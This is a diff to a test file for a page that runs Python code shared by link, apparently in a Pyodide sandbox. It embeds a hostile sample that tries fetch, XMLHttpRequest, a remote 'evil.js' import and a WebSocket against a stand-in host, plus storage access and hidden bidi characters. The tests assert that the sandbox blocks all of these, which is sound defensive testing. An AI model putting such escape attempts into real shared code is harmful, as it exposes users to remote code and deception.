@@ -19,6 +19,7 @@ from tests.support import ROOT
 from tests.support.browsing import Screen
 from tests.support.pages import pages
 from tests.support.running_in_page import Sample, editing, linked
+from tests.support.serving import served
 
 LINKED = "print('as it was')\n"
 
@@ -129,11 +130,64 @@ def test_code_travels_in_a_link(visited: Sample, screen: Screen) -> None:
     screen.shows("[data-run=to_person]")
 
 
-def test_the_code_of_a_link_runs(loaded: Sample, screen: Screen) -> None:
-    came = Sample.anew(screen, "to_person", linked("send/to_person.py", "print('afar – ✓')\n"))
-    assert came.text(".run-status").has("came with the link")
-    came.run_it()
-    assert came.text(".run-printed") == "afar – ✓"
+# What a stranger's code may try. The prototype has the fetch that the browser came with.
+STRANGERS = """
+import js
+from pyodide.ffi import run_sync
+
+
+def request():
+    asking = js.XMLHttpRequest.new()
+    asking.open("GET", "ELSEWHERE", False)
+    asking.send()
+    return "sent"
+
+
+def tried(what, deed):
+    try:
+        print(what, deed())
+    except Exception:
+        print(what, "failed")
+
+
+fetch = js.WorkerGlobalScope.prototype.fetch
+tried("fetch", lambda: run_sync(fetch.call(js.self, "ELSEWHERE")).status)
+tried("request", request)
+tried("script", lambda: js.eval("import('ELSEWHEREevil.js')"))
+tried("database", lambda: js.indexedDB.open("any"))
+tried("cache", lambda: js.caches)
+js.WebSocket.new("ELSEWHERE".replace("http", "ws"))
+import sqlalchemy  # what was not loaded before
+
+print(js.self.origin, "#\u202e\u200b")
+"""
+
+
+def test_the_code_of_a_link_runs_in_a_sandbox(
+    loaded: Sample, screen: Screen, tmp_path: Path
+) -> None:
+    asked: list[str] = []
+    with served(tmp_path, asked) as elsewhere:
+        code = STRANGERS.replace("ELSEWHERE", elsewhere)
+        came = Sample.anew(screen, "to_person", linked("send/to_person.py", code))
+        assert came.text(".run-status").has("came with the link", "2 hidden characters")
+        came.push("Run")
+        came.push("Cancel")
+        assert came.text(".run-status") == "Not run."
+        came.agree_and_run()
+        printed = came.text(".run-printed")
+        failed = [f"{what} failed" for what in ("fetch", "request", "script", "database", "cache")]
+        assert printed.has("\n".join([*failed, "null #\u202e\u200b"]))
+        came.run_it()  # and is not asked again
+        assert printed.has("null")
+        assert asked == []
+
+
+def test_hidden_characters_are_shown(loaded: Sample, screen: Screen) -> None:
+    hidden = "\u202e\u2066\u200b\u200d\u00ad\u00a0\u3164\ufe0f\U000e0041\x07"
+    editing(loaded, f"a = 'é 你 →\t{hidden}'\n")
+    shown = [f"U+{ord(one):04X}" for one in hidden]
+    assert screen.texts(".run-hidden") == shown
 
 
 @pytest.mark.parametrize(
